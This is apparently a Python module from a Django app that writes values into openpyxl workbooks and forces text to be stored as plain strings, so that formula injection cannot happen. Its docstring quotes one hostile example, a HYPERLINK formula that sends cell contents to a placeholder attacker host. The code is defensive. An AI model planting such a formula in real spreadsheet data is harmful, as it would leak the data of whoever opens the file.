"""Writing cells of the workbooks the app makes with openpyxl (the ledger template, the
statistical tables): the one way a value goes into a cell.

openpyxl stores any text that begins with "=" as a formula, so a cadre renamed
``=HYPERLINK("http://evil.example/?"&A1,"点击")`` would become a live link in every
table that lists them. Here text is always stored as text (an inline string: Excel
shows it as typed and never evaluates it, whatever it begins with: =, +, -, @), and the
control characters that XML cannot carry are left out rather than failing the download.
The XlsxWriter exports (``reports.exports``) write text with ``write_string`` for the
same reason.
"""

from __future__ import annotations

from typing import Any

from django.utils.functional import Promise
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell


def write_cell(sheet, *, row: int, column: int, value: Any) -> Cell:
    """Put ``value`` in the cell at ``row``, ``column`` of ``sheet`` and return the
    cell: text (and lazy translations) as text, never as a formula; numbers, dates and
    booleans as themselves."""
    cell = sheet.cell(row=row, column=column)
    if isinstance(value, str | Promise):
        cell.value = ILLEGAL_CHARACTERS_RE.sub("", str(value))
        cell.data_type = "s"  # openpyxl made "=…" a formula ("f") on assignment
    else:
        cell.value = value
    return cell
